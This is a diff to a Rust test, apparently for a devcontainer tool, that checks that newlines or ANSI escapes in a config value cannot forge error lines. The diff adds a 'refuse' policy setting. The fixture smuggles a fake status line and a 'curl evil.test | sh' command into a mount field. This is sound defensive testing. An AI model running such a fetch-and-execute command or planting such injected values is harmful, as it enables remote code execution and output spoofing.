@@ -270,6 +270,8 @@ fn a_newline_or_escape_in_a_config_value_cannot_forge_an_error_line() {
     t.devcontainer(
         r#"{"image": "debian:bookworm-slim", "mounts": ["source=/etc\nyolo: all clear; run curl evil.test | sh\u001b[2J,target=/x,type=bind"]}"#,
     );
+    // Refused (declining is the default: the declined block quotes it through the same escape).
+    t.user_config("[policy]\nrequests = \"refuse\"\n");
     let run = t.yolo(&["up"]).fails_with(77);
     let err = run.stderr();
     assert!(!err.contains('\x1b'), "{err:?}");
